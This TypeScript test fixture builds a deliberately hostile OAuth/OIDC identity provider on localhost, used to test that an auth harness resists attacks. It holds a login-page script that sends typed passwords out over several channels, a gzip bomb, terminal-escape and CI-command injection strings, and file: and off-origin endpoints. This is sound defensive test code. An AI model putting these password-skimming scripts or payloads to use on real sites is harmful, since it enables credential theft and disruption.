/**
 * A deliberately hostile identity provider for test/hostile/: a small node:http server on
 * 127.0.0.1 (port 0) with one mode per attack, and a second server on another port (another
 * origin) that records every request sent to it, so a test can prove the harness sent nothing
 * off the target's origin. Just enough OAuth/OIDC for the scenarios each attack needs: discovery,
 * JWKS, a login form, the code flow, client_credentials, userinfo, a device endpoint.
 */
import { randomBytes } from 'node:crypto';
import { type IncomingMessage, type ServerResponse, createServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import * as jose from 'jose';
import type { TestTls } from './tls.ts';

export const MODES = [
  'clean',
  /** Item 1: token values equal to the harness's own words (statuses, a severity). */
  'harness-words',
  /** Item 2: a 40 KiB access token that straddles the 32,000-character cut of a transcript, and a refresh token. */
  'huge-token',
  /** Item 3: the token endpoint on another origin. */
  'off-origin-token',
  /** Item 3: discovery names another issuer (OIDC Discovery §4.3: the document MUST NOT be used). */
  'issuer-mismatch',
  /** Item 3: the authorization endpoint redirects to a login page on another origin. */
  'redirect-off-origin',
  /** Item 3: the login form posts the password to another origin. */
  'form-action-off-origin',
  /** Item 3 and 7: the authorization endpoint is a file: URL. */
  'file-authorization',
  /** Item 3 and 7: the device verification_uri is a file: URL. */
  'file-verification',
  /** Item 4: the token endpoint streams 64 MiB. */
  'huge-body',
  /** Item 4: a gzip bomb (1 GiB of zeros in about 1 MiB). */
  'gzip-bomb',
  /** Item 4: the token response is 15,000 nested arrays. */
  'deep-json',
  /** Item 4: the token endpoint never answers. */
  'hang',
  /** Item 4: a login page of 50,000 buttons. */
  'many-buttons',
  /** Item 4: a login page of unclosed tags. */
  'unclosed-tags',
  /** Item 5: token_type and error text full of terminal control, workflow commands and markup. */
  'markup',
  /** Item 6: the authorization endpoint answers 500, so nobody can log in. */
  'login-broken',
  /** Item 6: a JWKS whose keys are null. */
  'null-jwks',
  /** Item 6: a token response that is a JSON array, not an object. */
  'non-object-token',
  /** Item 7: the login page loads an image from another origin. */
  'offsite-assets',
  /**
   * Issue 29 item 1: the harness sends tokens back inside what it encodes (an ID token as id_token_hint in a request
   * object, the client secret in Basic credentials): everything works, and the reports must not show them decoded.
   */
  'echo-tokens',
  /** Issue 29 item 2 (an https issuer): discovery's authorization_endpoint is http (a downgrade). */
  'http-authorization',
  /** Issue 29 item 2: the https authorization endpoint redirects to its login page over http. */
  'http-login-redirect',
  /** Issue 29 item 2: the https login page posts the password to an http form action. */
  'http-form-action',
  /**
   * Issue 29 item 2: the https login page's script sends what is typed over plain http by every channel a page has
   * (a WebSocket, a worker's fetch, a beacon, an image) and the form posts on, over https.
   */
  'http-exfiltrate',
  /** Issue 29 item 2: the device verification_uri is http. */
  'http-verification',
  /** Issue 29 item 3: discovery is JSON nested deeper than the harness parses. */
  'deep-discovery',
  /** Issue 29 item 3: discovery never answers. */
  'silent-discovery',
  /**
   * Issue 40 cause 1: everything works until the harness sends a request object (one that carries the ID token as
   * id_token_hint); the answer to it is poisoned: 1,001 tiny JWTs, then the request object glued to a word, its
   * payload in plain base64, and the object again inside a base64 blob.
   */
  'poison-late',
  /** Issue 40 cause 1: an ID token of 300,000 characters (a request object carrying it is larger than 256 KiB). */
  'huge-id-token',
  /** Issue 40 cause 2: discovery answers; every other endpoint accepts the connection and never responds. */
  'silent-endpoints',
] as const;
export type Mode = (typeof MODES)[number];

export const SECRETS = {
  machine: 'hostile-machine-secret-5b2e91',
  confidential: 'hostile-web-secret-0c7d44',
  password: 'hostile-alice-password-913a',
} as const;
export const REDIRECT_URI = 'https://client.example.test/cb';

export interface Recorded {
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

export interface HostileIdp {
  issuer: string;
  /** An http listener on 127.0.0.1 serving the same IdP (the downgrade modes point there); also its requests. */
  plain: string;
  plainRequests: Recorded[];
  /** The certificate file the CLI child must trust, when the issuer is https. */
  caFile?: string;
  /** A Chromium wrapper that trusts that certificate (CHROMIUM_PATH for the child), when the issuer is https. */
  chromium?: () => string;
  /** Another origin (127.0.0.1 on another port): the harness must send it nothing. */
  offOrigin: string;
  mode: Mode;
  /** Every token and code this IdP issued (long ones: what must never appear in a report). */
  issued: string[];
  /** Requests the IdP saw, and requests the off-origin server saw. */
  requests: Recorded[];
  offOriginRequests: Recorded[];
  /** A target config for this IdP (form login unless `browser`). */
  config(extra?: Record<string, unknown>): Record<string, unknown>;
  close(): Promise<void>;
}

/** The text a hostile IdP puts in whatever the harness may quote. */
export function markupPayload(offOrigin: string): string {
  return (
    `bearer\x1b[2J\x1b[31m\n  PASS  everything.is-fine (1 ms)\r\n::add-mask::hostile\n::warning ` +
    `title=pwned::owned\u2028` +
    `<img src="${offOrigin}/beacon.png"> ![beacon](${offOrigin}/beacon2.png) [click](${offOrigin}/x) ` +
    `<script>alert(1)</script>`
  );
}

/** A login page script that sends the password typed into it to `to` (http) by every channel it can. */
function exfiltrate(to: string): string {
  const ws = to.replace(/^http/, 'ws');
  return `
document.addEventListener('submit', function () {
  var p = encodeURIComponent((document.querySelector('input[type=password]') || {}).value || '');
  try { var s = new WebSocket('${ws}/ws?p=' + p); s.onopen = function () { s.send(p); }; } catch (e) {}
  try {
    var src = 'fetch("${to}/worker?p=' + p + '", { method: "POST", body: "' + p + '" });';
    new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
  } catch (e) {}
  try { navigator.sendBeacon('${to}/beacon', p); } catch (e) {}
  try { new Image().src = '${to}/pixel?p=' + p; } catch (e) {}
  try { fetch('${to}/fetch?p=' + p, { method: 'POST', body: p, mode: 'no-cors', keepalive: true }); } catch (e) {}
}, true);`;
}

async function readBody(req: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const c of req) chunks.push(c as Buffer);
  return Buffer.concat(chunks).toString();
}

function listen(server: ReturnType<typeof createServer>, scheme = 'http'): Promise<string> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve(`${scheme}://127.0.0.1:${(server.address() as AddressInfo).port}`)),
  );
}

/** The decoded payload of a compact JWS or unsecured JWT (a request object), or undefined. */
function jwtPayload(token: string): Record<string, string> {
  try {
    const value: unknown = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());
    return value && typeof value === 'object' ? (value as Record<string, string>) : {};
  } catch {
    return {};
  }
}

let bomb: Buffer | undefined;
/** 1 GiB of zeros in about 1 MiB: 64 gzip members of 16 MiB each (a multi-member gzip stream is one body). */
function gzipBomb(): Buffer {
  if (!bomb) {
    const member = gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
    bomb = Buffer.concat(Array.from({ length: 64 }, () => member));
  }
  return bomb;
}

/**
 * `tls`: the IdP (issuer, discovery, login) is served over https with this certificate; the http listener `plain`
 * serves the same IdP, and the downgrade modes point there.
 */
export async function startHostileIdp(mode: Mode, options: { tls?: TestTls } = {}): Promise<HostileIdp> {
  const { privateKey, publicKey } = await jose.generateKeyPair('RS256');
  const jwk = { ...(await jose.exportJWK(publicKey)), kid: 'h1', alg: 'RS256', use: 'sig' };
  const issued: string[] = [];
  const requests: Recorded[] = [];
  const offOriginRequests: Recorded[] = [];
  const pending = new Map<string, Record<string, string>>();
  const codes = new Map<string, Record<string, string>>();
  const mint = (bytes = 24) => {
    const v = randomBytes(bytes).toString('base64url');
    issued.push(v);
    return v;
  };
  let issuer = '';
  let offOrigin = '';
  let plain = '';
  const plainRequests: Recorded[] = [];
  /** Signed-in sessions (echo-tokens): the sid cookie's value → the user. */
  const sessions = new Set<string>();
  const sockets = new Set<import('node:net').Socket>();

  const json = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void => {
    res
      .writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store', ...headers })
      .end(typeof body === 'string' ? body : JSON.stringify(body));
  };
  const html = (res: ServerResponse, status: number, body: string): void => {
    res
      .writeHead(status, { 'content-type': 'text/html; charset=utf-8', 'x-frame-options': 'DENY' })
      .end(`<!doctype html><html><head><title>Hostile IdP</title></head><body>${body}</body></html>`);
  };

  const loginPage = (id: string): string => {
    const action =
      mode === 'form-action-off-origin'
        ? `${offOrigin}/steal`
        : mode === 'http-form-action'
          ? `${plain}/login`
          : '/login';
    const extra =
      mode === 'offsite-assets'
        ? `<img src="${offOrigin}/tracker.png" alt=""><link rel="stylesheet" href="${offOrigin}/style.css">`
        : mode === 'http-exfiltrate'
          ? `<script>${exfiltrate(plain)}</script>`
          : '';
    return (
      `${extra}<form method="post" action="${action}"><input type="hidden" name="req" value="${id}">` +
      '<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>'
    );
  };

  const tokens = async (params: Record<string, string>, clientId: string) => {
    const accessToken = mint();
    const idToken = await new jose.SignJWT({
      sub: 'user-1',
      ...(params.nonce ? { nonce: params.nonce } : {}),
      ...(mode === 'huge-id-token' ? { padding: randomBytes(225_000).toString('base64url') } : {}),
    })
      .setProtectedHeader({ alg: 'RS256', kid: 'h1' })
      .setIssuer(issuer)
      .setAudience(clientId)
      .setIssuedAt()
      .setExpirationTime('10m')
      .sign(privateKey);
    issued.push(idToken);
    return {
      access_token: accessToken,
      token_type: 'Bearer',
      expires_in: 3600,
      id_token: idToken,
      refresh_token: mint(),
      scope: params.scope ?? 'openid',
    };
  };

  function redirectWithCode(res: ServerResponse, params: Record<string, string>, headers: Record<string, string> = {}) {
    const code = mint();
    codes.set(code, params);
    const target = new URL(params.redirect_uri ?? REDIRECT_URI);
    target.searchParams.set('code', code);
    if (params.state) target.searchParams.set('state', params.state);
    res.writeHead(302, { location: target.href, ...headers }).end();
  }

  async function tokenEndpoint(req: IncomingMessage, res: ServerResponse, body: string): Promise<void> {
    const form = Object.fromEntries(new URLSearchParams(body));
    const basic = /^Basic (.+)$/i.exec(req.headers.authorization ?? '')?.[1];
    const [id = '', secret = ''] = basic
      ? Buffer.from(basic, 'base64')
          .toString()
          .split(':')
          .map((s) => decodeURIComponent(s.replace(/\+/g, ' ')))
      : [form.client_id ?? '', form.client_secret ?? ''];
    const known: Record<string, string> = { machine: SECRETS.machine, web: SECRETS.confidential };
    if (known[id] === undefined || known[id] !== secret) {
      return json(res, 401, { error: 'invalid_client' }, { 'www-authenticate': 'Basic realm="hostile"' });
    }
    switch (mode) {
      case 'hang':
        return; // never answers
      case 'huge-body': {
        res.writeHead(200, { 'content-type': 'application/json' });
        const chunk = Buffer.alloc(1024 * 1024, 0x20);
        let sent = 0;
        const pump = () => {
          while (sent < 64 && res.write(chunk)) sent++;
          if (sent >= 64) res.end();
          else res.once('drain', pump);
        };
        res.on('error', () => undefined);
        pump();
        return;
      }
      case 'gzip-bomb':
        res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
        res.on('error', () => undefined);
        res.end(gzipBomb());
        return;
      case 'deep-json':
        return json(res, 200, `${'['.repeat(15_000)}${']'.repeat(15_000)}`);
      case 'non-object-token':
        return json(res, 200, '["access_token", "Bearer"]');
      case 'markup':
        return json(res, 200, { access_token: mint(), token_type: markupPayload(offOrigin), expires_in: 3600 });
      case 'harness-words':
        return json(res, 200, {
          access_token: 'failed',
          token_type: 'Bearer',
          refresh_token: 'critical',
          expires_in: 3600,
        });
      case 'huge-token': {
        const big = mint(30 * 1024); // 40 KiB of base64url
        return json(res, 200, {
          padding: 'p'.repeat(31_000),
          access_token: big,
          token_type: 'Bearer',
          refresh_token: mint(),
          expires_in: 3600,
        });
      }
      default:
        break;
    }
    if (form.grant_type === 'client_credentials')
      return json(res, 200, { access_token: mint(), token_type: 'Bearer', expires_in: 3600 });
    if (form.grant_type === 'authorization_code') {
      const params = codes.get(form.code ?? '');
      if (!params) return json(res, 400, { error: 'invalid_grant' });
      codes.delete(form.code ?? '');
      return json(res, 200, await tokens(params, id));
    }
    return json(res, 400, { error: 'unsupported_grant_type' });
  }

  async function handle(req: IncomingMessage, res: ServerResponse, over: 'tls' | 'plain' = 'tls'): Promise<void> {
    const body = await readBody(req);
    const url = new URL(req.url ?? '/', over === 'plain' ? plain : issuer);
    (over === 'plain' ? plainRequests : requests).push({
      method: req.method ?? 'GET',
      url: url.href,
      headers: req.headers,
      body,
    });
    const at = (path: string) => `${issuer}${path}`;
    const sid = /(?:^|;\s*)sid=([^;]+)/.exec(req.headers.cookie ?? '')?.[1];
    if (mode === 'silent-endpoints' && url.pathname !== '/.well-known/openid-configuration') return; // never answers
    const request = url.searchParams.get('request');
    if (mode === 'poison-late' && url.pathname === '/authorize' && request) {
      const payload = request.split('.')[1] ?? '';
      return html(
        res,
        400,
        `<pre>${'eyJhIjoxfQ.eyJiIjoxfQ. '.repeat(1_001)}</pre><p>ref_${request}_end</p>` +
          `<p>${Buffer.from(payload, 'base64url').toString('base64')}</p>` +
          `<p>${Buffer.from(`request=${request}`).toString('base64')}</p>`,
      );
    }
    switch (url.pathname) {
      case '/.well-known/openid-configuration':
        if (mode === 'silent-discovery') return; // never answers
        if (mode === 'deep-discovery') return json(res, 200, `${'{"a":'.repeat(200)}1${'}'.repeat(200)}`);
        return json(res, 200, {
          issuer: mode === 'issuer-mismatch' ? `${offOrigin}` : issuer,
          authorization_endpoint:
            mode === 'file-authorization'
              ? 'file:///etc/hostname'
              : mode === 'http-authorization'
                ? `${plain}/authorize`
                : at('/authorize'),
          ...(mode === 'echo-tokens' ? { end_session_endpoint: at('/logout'), request_parameter_supported: true } : {}),
          ...(mode === 'poison-late' || mode === 'huge-id-token' ? { request_parameter_supported: true } : {}),
          token_endpoint: mode === 'off-origin-token' ? `${offOrigin}/token` : at('/token'),
          userinfo_endpoint: at('/userinfo'),
          jwks_uri: at('/jwks'),
          device_authorization_endpoint: at('/device'),
          response_types_supported: ['code'],
          subject_types_supported: ['public'],
          grant_types_supported: [
            'authorization_code',
            'client_credentials',
            'urn:ietf:params:oauth:grant-type:device_code',
          ],
          code_challenge_methods_supported: ['S256'],
          token_endpoint_auth_methods_supported: ['client_secret_basic', 'client_secret_post'],
          id_token_signing_alg_values_supported: ['RS256'],
          scopes_supported: ['openid'],
        });
      case '/jwks':
        return json(res, 200, mode === 'null-jwks' ? { keys: [null, 7, 'x'] } : { keys: [jwk] });
      case '/authorize': {
        if (mode === 'login-broken') return html(res, 500, '<h1>Internal error</h1>');
        if (mode === 'redirect-off-origin') {
          return void res.writeHead(302, { location: `${offOrigin}/login${url.search}` }).end();
        }
        if (mode === 'many-buttons')
          return html(
            res,
            200,
            `<form method="post" action="/login">${'<button name="b" value="1">Go</button>'.repeat(50_000)}</form>`,
          );
        if (mode === 'unclosed-tags')
          return html(res, 200, `<form method="post" action="/login">${'<button><select><textarea>'.repeat(40_000)}`);
        if (mode === 'http-login-redirect' && over === 'tls') {
          return void res.writeHead(302, { location: `${plain}/authorize${url.search}` }).end();
        }
        const query = Object.fromEntries(url.searchParams);
        // An unsigned request object's values win (OIDC Core §6.1); whatever else it holds is taken as is.
        const params = query.request ? { ...query, ...jwtPayload(query.request) } : query;
        if (sid && sessions.has(sid) && params.prompt !== 'login') return redirectWithCode(res, params);
        if (params.prompt === 'none') {
          const target = new URL(params.redirect_uri ?? REDIRECT_URI);
          target.searchParams.set('error', 'login_required');
          if (params.state) target.searchParams.set('state', params.state);
          return void res.writeHead(302, { location: target.href }).end();
        }
        const id = randomBytes(12).toString('hex');
        pending.set(id, params);
        return html(res, 200, loginPage(id));
      }
      case '/logout': {
        if (sid) sessions.delete(sid);
        const back = url.searchParams.get('post_logout_redirect_uri');
        if (!back) return html(res, 200, '<p>Signed out</p>');
        const target = new URL(back);
        const state = url.searchParams.get('state');
        if (state) target.searchParams.set('state', state);
        return void res.writeHead(302, { location: target.href, 'set-cookie': 'sid=; Max-Age=0; Path=/' }).end();
      }
      case '/activate':
        return html(
          res,
          200,
          '<form method="post" action="/activate"><input name="user_code"><input name="username">' +
            '<input type="password" name="password"><button type="submit">Continue</button></form>',
        );
      case '/login': {
        const form = Object.fromEntries(new URLSearchParams(body));
        const params = pending.get(form.req ?? '');
        if (!params || form.username !== 'alice' || form.password !== SECRETS.password)
          return html(res, 200, loginPage(form.req ?? ''));
        pending.delete(form.req ?? '');
        if (mode !== 'echo-tokens') return redirectWithCode(res, params);
        const session = mint();
        sessions.add(session);
        return redirectWithCode(res, params, { 'set-cookie': `sid=${session}; Path=/; HttpOnly` });
      }
      case '/token':
        return tokenEndpoint(req, res, body);
      case '/userinfo':
        return json(res, 200, { sub: 'user-1' });
      case '/device':
        return json(res, 200, {
          device_code: mint(),
          user_code: 'WDJB-MJHT',
          expires_in: 600,
          interval: 1,
          verification_uri:
            mode === 'file-verification'
              ? 'file:///etc/hostname'
              : mode === 'http-verification'
                ? `${plain}/activate`
                : at('/activate'),
        });
      default:
        return html(res, 404, '<h1>Not found</h1>');
    }
  }

  const handler = (over: 'tls' | 'plain') => (req: IncomingMessage, res: ServerResponse) => {
    void handle(req, res, over).catch((error: unknown) => {
      if (!res.headersSent) json(res, 500, { error: 'server_error', error_description: String(error) });
    });
  };
  const { tls } = options;
  // A request object holding a 300,000-character ID token makes a URL of about 530 KB.
  const maxHeaderSize = mode === 'huge-id-token' ? 4 * 1024 * 1024 : 16 * 1024;
  const server = tls
    ? createHttpsServer({ key: tls.key, cert: tls.cert, maxHeaderSize }, handler('tls'))
    : createServer({ maxHeaderSize }, handler('tls'));
  const plainServer = createServer(handler('plain'));
  // A WebSocket handshake is an http request too: recorded, then the socket is closed.
  plainServer.on('upgrade', (req: IncomingMessage, socket: import('node:net').Socket) => {
    plainRequests.push({ method: 'UPGRADE', url: req.url ?? '/', headers: req.headers, body: '' });
    socket.destroy();
  });
  for (const s of [server, plainServer])
    s.on(tls && s === server ? 'secureConnection' : 'connection', (socket: import('node:net').Socket) => {
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
    });
  const off = createServer((req, res) => {
    void readBody(req).then((body) => {
      offOriginRequests.push({ method: req.method ?? 'GET', url: req.url ?? '/', headers: req.headers, body });
      res
        .writeHead(200, { 'content-type': 'text/html' })
        .end(
          '<!doctype html><title>off origin</title><form method="post" action="/steal"><input ' +
            'name="username"><input type="password" name="password"><button>Sign in</button></form>',
        );
    });
  });
  off.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  issuer = await listen(server as ReturnType<typeof createServer>, tls ? 'https' : 'http');
  offOrigin = await listen(off);
  plain = await listen(plainServer);

  return {
    issuer,
    plain,
    plainRequests,
    ...(tls ? { caFile: tls.certFile, chromium: () => tls.chromiumWrapper() } : {}),
    offOrigin,
    mode,
    issued,
    requests,
    offOriginRequests,
    config: (extra = {}) => ({
      issuer,
      clients: {
        machine: { clientId: 'machine', clientSecret: SECRETS.machine, scope: 'api' },
        confidential: {
          clientId: 'web',
          clientSecret: SECRETS.confidential,
          redirectUri: REDIRECT_URI,
          postLogoutRedirectUri: 'https://client.example.test/logged-out',
          scope: 'openid',
        },
        device: { clientId: 'machine', clientSecret: SECRETS.machine, authMethod: 'client_secret_basic' },
      },
      user: { username: 'alice', password: SECRETS.password },
      timeouts: { requestMs: 3_000, scenarioMs: 20_000 },
      ...extra,
    }),
    async close() {
      for (const s of sockets) s.destroy();
      await Promise.all(
        [server, off, plainServer].map((s) => new Promise<void>((resolve) => s.close(() => resolve()))),
      );
    },
  };
}
